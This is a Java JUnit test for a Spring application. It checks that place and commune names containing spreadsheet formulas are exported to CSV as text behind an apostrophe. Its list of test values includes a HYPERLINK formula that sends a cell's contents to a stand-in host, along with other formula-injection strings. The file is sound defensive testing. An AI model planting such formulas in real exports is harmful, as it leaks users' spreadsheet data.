package fr.allervers.security;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.DayOfWeek;
import java.time.LocalDate;
import java.time.YearMonth;
import java.time.temporal.TemporalAdjusters;
import java.util.List;

import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.transaction.annotation.Transactional;

import fr.allervers.support.Api;
import fr.allervers.support.CsvCells;
import fr.allervers.support.DatabaseTest;
import fr.allervers.support.TestTenants;

/**
 * Security probe (issue #13): {@code =HYPERLINK(…)}, {@code @SUM(1+1)}, {@code +1+2} and {@code -2+3} in place and
 * commune names passed unchanged into the plan and coverage CSVs, where Excel runs them. Replayed here with those
 * names (written straight to the database, as a hostile import would leave them; rolled back after the test, since
 * communes are shared): each comes out as text, behind an apostrophe, and numbers stay numbers.
 */
@DatabaseTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class CsvFormulaProbeTest {

    private static final List<String> FORMULAS = List.of("=HYPERLINK(\"https://exemple.invalid/?d=\"&A1;\"Voir\")",
            "@SUM(1+1)", "+1+2", "-2+3");

    @Autowired
    private MockMvc mvc;
    @Autowired
    private JdbcTemplate jdbc;

    private long territory;
    private long planId;
    private LocalDate monday;

    @BeforeAll
    void solveAPlan() throws Exception {
        var coordinator = TestTenants.basic(CsvFormulaProbeTest.class, Role.COORDINATOR);
        territory = Api.demoTerritoryId(mvc, coordinator);
        monday = LocalDate.now().plusWeeks(2).with(TemporalAdjusters.previousOrSame(DayOfWeek.MONDAY));
        planId = Api.solvedWeekPlan(mvc, coordinator, territory, monday);
    }

    @Test
    @Transactional
    void formulasInPlaceAndCommuneNamesReachTheSpreadsheetsAsText() throws Exception {
        // Written before anything is read in this transaction, so that no entity loaded earlier hides the change.
        List<Long> places = jdbc.queryForList("SELECT DISTINCT place_id FROM plan_permanence WHERE plan_id = ?"
                + " ORDER BY place_id", Long.class, planId);
        for (int i = 0; i < places.size(); i++) {
            jdbc.update("UPDATE place SET name = ? WHERE id = ?", FORMULAS.get(i % FORMULAS.size()), places.get(i));
        }
        List<String> communes = jdbc.queryForList("SELECT insee FROM territory_commune WHERE territory_id = ?"
                + " ORDER BY insee", String.class, territory);
        for (int i = 0; i < communes.size(); i++) {
            jdbc.update("UPDATE commune SET name = ? WHERE insee = ?", FORMULAS.get(i % FORMULAS.size()),
                    communes.get(i));
        }

        byte[] planCsv = download("/api/permanence-plans/" + planId + "/export.csv");
        byte[] coverageCsv = download("/api/coverage/export.csv?territoryId=" + territory + "&month="
                + YearMonth.from(monday));

        for (byte[] csv : List.of(planCsv, coverageCsv)) {
            List<String> cells = CsvCells.all(csv);
            assertThat(cells).as("no cell left as a formula").noneMatch(FORMULAS::contains)
                    .noneMatch(cell -> !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0
                            && !cell.matches("-?\\d+"));
        }
        assertThat(CsvCells.all(coverageCsv)).as("every commune name as text")
                .containsAll(FORMULAS.stream().map(f -> "'" + f).toList());
        assertThat(CsvCells.all(planCsv)).contains("'" + FORMULAS.get(0));
        List<List<String>> planRows = CsvCells.read(planCsv);
        assertThat(planRows.get(0)).containsExactly("Date", "Demi-journée", "Début", "Fin", "Commune", "Code INSEE",
                "Lieu", "Camion", "Professionnels", "Épinglée");
        assertThat(planRows.subList(1, planRows.size())).allSatisfy(row -> {
            assertThat(row.get(4)).startsWith("'");
            assertThat(row.get(6)).startsWith("'");
        });
    }

    private byte[] download(String url) throws Exception {
        return Api.download(mvc, url, "text/csv").getContentAsByteArray();
    }
}
